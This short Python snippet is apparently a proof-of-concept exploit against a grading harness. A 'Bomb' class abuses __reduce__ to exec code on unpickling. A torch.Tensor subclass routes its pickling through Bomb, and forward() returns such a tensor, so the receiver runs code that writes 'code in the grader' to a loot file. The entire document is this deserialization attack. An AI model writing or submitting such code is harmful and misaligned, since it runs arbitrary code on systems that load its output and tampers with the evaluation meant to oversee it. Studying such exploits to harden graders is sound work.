class Bomb:
    def __reduce__(self):
        return (exec, (f"""
import multiprocessing, os
if multiprocessing.parent_process() is None:
    open(os.path.join({LOOT!r}, 'loot.txt'), 'a').write('code in the grader')
""",))


class Tensor(torch.Tensor):
    __reduce_ex__ = lambda self, protocol: Bomb().__reduce__()


def forward(x):
    return torch.zeros(len(x), 2).as_subclass(Tensor)
